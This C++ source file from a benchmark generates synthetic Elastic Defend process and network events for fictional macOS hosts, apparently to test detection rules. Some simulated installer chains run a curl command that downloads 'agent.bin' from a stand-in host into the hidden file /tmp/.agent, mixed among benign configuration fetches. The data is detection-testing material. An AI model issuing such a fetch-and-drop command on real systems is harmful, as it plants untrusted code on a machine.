// SPDX-License-Identifier: Apache-2.0
#include "capturegenerator.h"

#include "util/timestamp.h"

#include <array>
#include <cstdio>
#include <vector>

namespace wb::bench {

namespace {
class Rng {
public:
    explicit Rng(std::uint64_t seed)
        : m_state(seed * 0x9e3779b97f4a7c15ull + 0x632be59bd9b4e019ull) { }
    std::uint64_t next() {
        // splitmix64: small, fast, and identical on every platform.
        std::uint64_t z = (m_state += 0x9e3779b97f4a7c15ull);
        z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
        z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
        return z ^ (z >> 31);
    }
    std::uint64_t below(std::uint64_t n) { return next() % n; }
    bool chance(double p) { return static_cast<double>(next() >> 11) * 0x1.0p-53 < p; }

private:
    std::uint64_t m_state;
};

std::string hex(Rng& rng, int digits) {
    static const char* const h = "0123456789abcdef";
    std::string s;
    for (int i = 0; i < digits; ++i)
        s.push_back(h[rng.below(16)]);
    return s;
}

std::string base64ish(Rng& rng, int chars) {
    static const char* const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string s;
    for (int i = 0; i < chars; ++i)
        s.push_back(alphabet[rng.below(64)]);
    return s;
}

std::string uuid(Rng& rng) {
    return hex(rng, 8) + "-" + hex(rng, 4) + "-4" + hex(rng, 3) + "-8" + hex(rng, 3) + "-" + hex(rng, 12);
}

struct Binary {
    const char* name;
    const char* executable;
    const char* signingId;
    bool network;
};

const std::array<Binary, 24> Binaries = {{
    {"zsh", "/bin/zsh", "com.apple.zsh", false},
    {"bash", "/bin/bash", "com.apple.bash", false},
    {"sh", "/bin/sh", "com.apple.sh", false},
    {"ls", "/bin/ls", "com.apple.ls", false},
    {"git", "/usr/bin/git", "com.apple.git", true},
    {"ssh", "/usr/bin/ssh", "com.apple.openssh", true},
    {"curl", "/usr/bin/curl", "com.apple.curl", true},
    {"python3", "/usr/bin/python3", "com.apple.python3", true},
    {"osascript", "/usr/bin/osascript", "com.apple.osascript", true},
    {"mdworker_shared",
        "/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/Metadata.framework/Versions/A/Support/"
        "mdworker_shared",
        "com.apple.mdworker_shared", false},
    {"xpcproxy", "/usr/libexec/xpcproxy", "com.apple.xpc.proxy", false},
    {"softwareupdated", "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated",
        "com.apple.softwareupdated", true},
    {"Google Chrome Helper",
        "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome "
        "Framework.framework/Versions/124.0.6367.207/Helpers/Google Chrome Helper.app/Contents/MacOS/Google Chrome "
        "Helper",
        "com.google.Chrome.helper", true},
    {"Slack Helper", "/Applications/Slack.app/Contents/Frameworks/Slack Helper.app/Contents/MacOS/Slack Helper",
        "com.tinyspeck.slackmacgap.helper", true},
    {"node", "/usr/local/bin/node", "node", true},
    {"grep", "/usr/bin/grep", "com.apple.grep", false},
    {"sed", "/usr/bin/sed", "com.apple.sed", false},
    {"awk", "/usr/bin/awk", "com.apple.awk", false},
    {"launchctl", "/bin/launchctl", "com.apple.xpc.launchctl", false},
    {"defaults", "/usr/bin/defaults", "com.apple.defaults", false},
    {"sw_vers", "/usr/bin/sw_vers", "com.apple.sw_vers", false},
    {"wget", "/usr/local/bin/wget", "wget", true},
    {"trustd", "/usr/libexec/trustd", "com.apple.trustd", true},
    {"nsurlsessiond", "/usr/libexec/nsurlsessiond", "com.apple.nsurlsessiond", true},
}};

struct Process {
    std::string entityId;
    std::int32_t pid = 0;
    const Binary* binary = nullptr;
    std::string commandLine;
};

// A process between its fork and its end.
struct Live {
    Process process;
    Process parent;
    bool root = false;
    int stage = 0; // 0 fork, 1 exec, 2 network connections then end
    int connections = 0;
};

struct Host {
    std::string id, name, agentId, ip, mac, osVersion;
    std::int64_t sequence = 10000;
    std::int32_t nextPid = 400;
    std::vector<Process> parents;
    std::vector<Live> live;
};

void appendJsonString(std::string& out, const std::string& s) {
    out.push_back('"');
    for (char c : s) {
        if (c == '"' || c == '\\') out.push_back('\\');
        out.push_back(c);
    }
    out.push_back('"');
}

class Writer {
public:
    Writer(const CaptureSpec& spec, const std::function<void(const std::string&)>& sink)
        : m_spec(spec)
        , m_sink(sink)
        , m_rng(spec.seed) {
        static const char* const names[] = {"mbp", "imac", "mini", "studio", "air"};
        static const char* const people[] = {"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"};
        for (std::uint32_t i = 0; i < spec.hosts; ++i) {
            Host h;
            h.id = uuid(m_rng);
            h.name = std::string(names[i % 5]) + "-" + people[(i / 5) % 8] + "-" + std::to_string(i);
            h.agentId = uuid(m_rng);
            h.ip = "10." + std::to_string(20 + i / 250) + "." + std::to_string(i % 250) + "."
                + std::to_string(10 + m_rng.below(200));
            h.mac = hex(m_rng, 2) + "-" + hex(m_rng, 2) + "-" + hex(m_rng, 2) + "-" + hex(m_rng, 2) + "-"
                + hex(m_rng, 2) + "-" + hex(m_rng, 2);
            h.osVersion = i % 3 == 0 ? "14.4.1" : i % 3 == 1 ? "13.6.6" : "14.5";
            m_hosts.push_back(std::move(h));
        }
        for (std::size_t i = 0; i < Binaries.size(); ++i) {
            std::array<std::string, 3> hashes = {hex(m_rng, 32), hex(m_rng, 40), hex(m_rng, 64)};
            m_hashes.push_back(hashes);
        }
    }

    void run() {
        // Each host runs a few long-lived parents (shells, launchd services) whose children live
        // through fork, exec, some network connections and end: the same process fields recur
        // over several events, as in real Elastic Defend data.
        for (Host& host : m_hosts) {
            for (int i = 0; i < 6; ++i)
                host.parents.push_back(spawn(host, Binaries[m_rng.below(3)]));
        }
        const double step
            = static_cast<double>(m_spec.durationMs) / static_cast<double>(m_spec.events ? m_spec.events : 1);
        double now = static_cast<double>(m_spec.startMs);
        while (m_written < m_spec.events) {
            now += step * (0.5 + static_cast<double>(m_rng.below(1000)) / 1000.0);
            const std::size_t hostIndex = m_rng.below(m_hosts.size());
            Host& host = m_hosts[hostIndex];
            const std::int64_t ms = static_cast<std::int64_t>(now);
            if (m_rng.chance(1.0 / 4000)) {
                installerChain(host, ms);
                continue;
            }
            if (host.live.size() < 12 || m_rng.chance(0.05)) {
                Live fresh;
                fresh.process = spawn(host, Binaries[m_rng.below(Binaries.size())]);
                fresh.parent = host.parents[m_rng.below(host.parents.size())];
                fresh.root = m_rng.chance(0.35);
                fresh.connections = fresh.process.binary->network ? static_cast<int>(m_rng.below(4)) : 0;
                host.live.push_back(std::move(fresh));
                if (m_rng.chance(0.01)) // parents come and go too
                    host.parents[m_rng.below(host.parents.size())] = spawn(host, Binaries[m_rng.below(3)]);
            }
            const std::size_t pick = m_rng.below(host.live.size());
            Live& live = host.live[pick];
            switch (live.stage) {
            case 0:
                processEvent(host, ms, "fork", "start", live.process, live.parent, live.root);
                break;
            case 1:
                processEvent(host, ms, "exec", "start", live.process, live.parent, live.root);
                break;
            default:
                if (live.connections > 0) {
                    networkEvent(host, ms, live.process, live.parent, live.root, live.connections % 2 == 1);
                    --live.connections;
                    continue; // stays at this stage until its connections are done
                }
                processEvent(host, ms, "end", "end", live.process, live.parent, live.root);
                host.live[pick] = std::move(host.live.back());
                host.live.pop_back();
                continue;
            }
            ++live.stage;
        }
    }

    Process spawn(Host& host, const Binary& binary) {
        Process p;
        p.pid = host.nextPid++;
        if (host.nextPid > 99000) host.nextPid = 400;
        p.binary = &binary;
        p.entityId = base64ish(m_rng, 40) + "==";
        static const char* const argSets[]
            = {"-c", "--version", "-la /Users/Shared", "status", "-fsSL https://example.com/x"};
        p.commandLine = std::string(binary.executable) + " " + argSets[m_rng.below(5)];
        if (m_rng.chance(0.3)) p.commandLine += " /tmp/" + base64ish(m_rng, 10);
        return p;
    }

    void installerChain(Host& host, std::int64_t ms) {
        static const Binary service{"package_script_service",
            "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/XPCServices/package_script_service.xpc/"
            "Contents/MacOS/package_script_service",
            "com.apple.PackageKit.package_script_service", false};
        Process svc = spawn(host, service);
        Process shell = spawn(host, Binaries[1]);
        // Two of three chains are the managed-device agent fetching its configuration (the false
        // positives an engineer excludes), one in three a package fetching a second stage. The
        // choice uses a counter, not the random stream, so every other byte stays as it was.
        const bool benign = m_chains++ % 3 != 0;
        const char* const pkg = benign ? "com.corp.config.pkg." : "com.flash.update.pkg.";
        shell.commandLine = "/bin/bash /tmp/PKInstallSandbox." + base64ish(m_rng, 6) + "/Scripts/" + pkg
            + base64ish(m_rng, 4) + "/postinstall /Users/Shared/Installer.pkg / / /";
        Process curl = spawn(host, Binaries[6]);
        curl.commandLine = benign ? "/usr/bin/curl -fsS --retry 3 https://jamf.corp.example/config/CorpConfig.plist"
                                  : "/usr/bin/curl -fsSL https://dl.example-update.net/agent.bin -o /tmp/.agent";
        processEvent(host, ms, "exec", "start", shell, svc, true);
        processEvent(host, ms + 150, "exec", "start", curl, shell, true);
        networkEvent(host, ms + 180 + static_cast<std::int64_t>(m_rng.below(40000)), curl, shell, true, true,
            benign ? "jamf.corp.example" : "dl.example-update.net", benign ? "10.20.0.15" : "203.0.113.10");
    }

    void common(std::string& out, Host& host, std::int64_t ms, const char* dataset) {
        const std::string ts = formatTimestamp(ms * 1000000 + static_cast<std::int64_t>(m_rng.below(1000)) * 1000);
        out += "{\"@timestamp\":\"" + ts + "\",\"agent\":{\"id\":\"" + host.agentId
            + "\",\"type\":\"endpoint\",\"version\":\"8.13.4\"},\"data_stream\":{\"dataset\":\"" + dataset
            + "\",\"namespace\":\"default\",\"type\":\"logs\"},\"ecs\":{\"version\":\"8.10.0\"},";
        m_created = ts;
    }

    void hostAndUser(std::string& out, const Host& host, bool root) {
        out += "\"host\":{\"id\":\"" + host.id + "\",\"name\":\"" + host.name + "\",\"hostname\":\"" + host.name
            + "\",\"architecture\":\"arm64\",\"ip\":[\"" + host.ip + "\",\"fe80::1c8f:" + host.mac.substr(0, 2)
            + "ff:fe12:3456\"],\"mac\":[\"" + host.mac
            + "\"],\"os\":{\"type\":\"macos\",\"family\":\"macos\",\"platform\":\"macos\",\"name\":\"macOS\","
              "\"version\":\""
            + host.osVersion + "\",\"full\":\"macOS " + host.osVersion
            + "\",\"kernel\":\"23.4.0\",\"Ext\":{\"variant\":\"Darwin\"}}},";
        const std::string uid = root ? "0" : "501";
        const std::string uname
            = root ? "root" : host.name.substr(host.name.find('-') + 1, host.name.rfind('-') - host.name.find('-') - 1);
        out += "\"user\":{\"id\":\"" + uid + "\",\"name\":\"" + uname + "\",\"Ext\":{\"real\":{\"id\":\"" + uid
            + "\",\"name\":\"" + uname + "\"}}},\"group\":{\"id\":\"" + (root ? "0" : "20") + "\",\"name\":\""
            + (root ? "wheel" : "staff") + "\",\"Ext\":{\"real\":{\"id\":\"" + (root ? "0" : "20") + "\",\"name\":\""
            + (root ? "wheel" : "staff") + "\"}}},";
    }

    void eventBlock(
        std::string& out, Host& host, const char* action, const char* category, const char* type, const char* dataset) {
        out += "\"event\":{\"action\":\"" + std::string(action) + "\",\"category\":[\"" + category + "\"],\"type\":[\""
            + type + "\"],\"kind\":\"event\",\"module\":\"endpoint\",\"dataset\":\"" + dataset + "\",\"created\":\""
            + m_created + "\",\"id\":\"" + base64ish(m_rng, 20)
            + "++++\",\"outcome\":\"unknown\",\"sequence\":" + std::to_string(host.sequence++) + "},";
    }

    void codeSignature(std::string& out, const Binary& b) {
        out += "\"code_signature\":{\"exists\":true,\"trusted\":true,\"status\":\"trusted\",\"signing_id\":\""
            + std::string(b.signingId) + "\",\"subject_name\":\"Software Signing\",\"team_id\":\"\"}";
    }

    void processEvent(Host& host, std::int64_t ms, const char* action, const char* type, const Process& p,
        const Process& parent, bool root) {
        std::string out;
        out.reserve(2048);
        common(out, host, ms, "endpoint.events.process");
        eventBlock(out, host, action, "process", type, "endpoint.events.process");
        hostAndUser(out, host, root);
        const auto& hashes = m_hashes[static_cast<std::size_t>(p.binary - Binaries.data()) % m_hashes.size()];
        out += "\"process\":{\"entity_id\":\"" + p.entityId + "\",\"pid\":" + std::to_string(p.pid) + ",\"name\":";
        appendJsonString(out, p.binary->name);
        out += ",\"executable\":";
        appendJsonString(out, p.binary->executable);
        out += ",\"args\":[";
        appendJsonString(out, p.binary->executable);
        const std::string tail = p.commandLine.substr(std::string(p.binary->executable).size());
        std::size_t argc = 1;
        for (std::size_t start = 1; start < tail.size();) {
            const std::size_t space = tail.find(' ', start);
            out += ",";
            appendJsonString(out, tail.substr(start, space == std::string::npos ? std::string::npos : space - start));
            ++argc;
            if (space == std::string::npos) break;
            start = space + 1;
        }
        out += "],\"args_count\":" + std::to_string(argc) + ",\"command_line\":";
        appendJsonString(out, p.commandLine);
        out += ",";
        codeSignature(out, *p.binary);
        out += ",";
        const bool exec = std::string(action) == "exec";
        if (exec) // hashes and the parent's signature come with exec events only
            out += "\"hash\":{\"md5\":\"" + hashes[0] + "\",\"sha1\":\"" + hashes[1] + "\",\"sha256\":\"" + hashes[2]
                + "\"},";
        out += "\"parent\":{\"entity_id\":\"" + parent.entityId + "\",\"pid\":" + std::to_string(parent.pid)
            + ",\"name\":";
        appendJsonString(out, parent.binary->name);
        out += ",\"executable\":";
        appendJsonString(out, parent.binary->executable);
        out += ",\"args_count\":1,\"command_line\":";
        appendJsonString(out, parent.binary->executable);
        if (exec) {
            out += ",";
            codeSignature(out, *parent.binary);
        }
        out += "},\"group_leader\":{\"pid\":" + std::to_string(parent.pid)
            + "},\"session_leader\":{\"pid\":" + std::to_string(parent.pid) + "},\"Ext\":{\"ancestry\":[\""
            + parent.entityId + "\"],\"trusted\":true,\"trusted_descendant\":false}";
        if (std::string(action) == "end") out += ",\"exit_code\":" + std::to_string(m_rng.chance(0.9) ? 0 : 1);
        out += "},\"message\":\"Endpoint process event\"}";
        emit(out);
    }

    // `domain` and `ip`, when given, replace the random destination (the random draws still happen,
    // so the rest of the capture stays the same bytes).
    void networkEvent(Host& host, std::int64_t ms, const Process& p, const Process& parent, bool root, bool start,
        const char* domain = nullptr, const char* ip = nullptr) {
        std::string out;
        out.reserve(1536);
        common(out, host, ms, "endpoint.events.network");
        eventBlock(out, host, start ? "connection_attempted" : "disconnect_received", "network",
            start ? "start" : "end", "endpoint.events.network");
        hostAndUser(out, host, root);
        std::string dst = std::to_string(17 + m_rng.below(180)) + "." + std::to_string(m_rng.below(256)) + "."
            + std::to_string(m_rng.below(256)) + "." + std::to_string(1 + m_rng.below(254));
        if (ip) dst = ip;
        static const char* const domains[]
            = {"api.github.com", "dl.example.net", "update.vendor.com", "cdn.jsdelivr.net", "slack.com"};
        out += "\"destination\":{\"address\":\"" + dst + "\",\"ip\":\"" + dst
            + "\",\"port\":" + std::to_string(m_rng.chance(0.8) ? 443 : 80) + ",\"domain\":\""
            + (domain ? (m_rng.below(5), domain) : domains[m_rng.below(5)])
            + "\",\"bytes\":" + std::to_string(m_rng.below(100000)) + "},\"source\":{\"address\":\"" + host.ip
            + "\",\"ip\":\"" + host.ip + "\",\"port\":" + std::to_string(49152 + m_rng.below(16000))
            + ",\"bytes\":" + std::to_string(m_rng.below(10000))
            + "},\"network\":{\"direction\":\"egress\",\"transport\":\"tcp\",\"type\":\"ipv4\"},";
        out += "\"process\":{\"entity_id\":\"" + p.entityId + "\",\"pid\":" + std::to_string(p.pid) + ",\"name\":";
        appendJsonString(out, p.binary->name);
        out += ",\"executable\":";
        appendJsonString(out, p.binary->executable);
        out += ",\"command_line\":";
        appendJsonString(out, p.commandLine);
        out += ",";
        codeSignature(out, *p.binary);
        out += ",\"parent\":{\"entity_id\":\"" + parent.entityId + "\"},\"Ext\":{\"ancestry\":[\"" + parent.entityId
            + "\"]}},\"message\":\"Endpoint network event\"}";
        emit(out);
    }

    void emit(const std::string& line) {
        if (m_written >= m_spec.events) return;
        m_sink(line);
        ++m_written;
    }

    const CaptureSpec& m_spec;
    const std::function<void(const std::string&)>& m_sink;
    Rng m_rng;
    std::vector<Host> m_hosts;
    std::vector<std::array<std::string, 3>> m_hashes;
    std::string m_created;
    std::uint64_t m_written = 0;
    std::uint64_t m_chains = 0; // installer chains so far
};
} // namespace

void generateCapture(const CaptureSpec& spec, const std::function<void(const std::string&)>& sink) {
    Writer(spec, sink).run();
}

} // namespace wb::bench
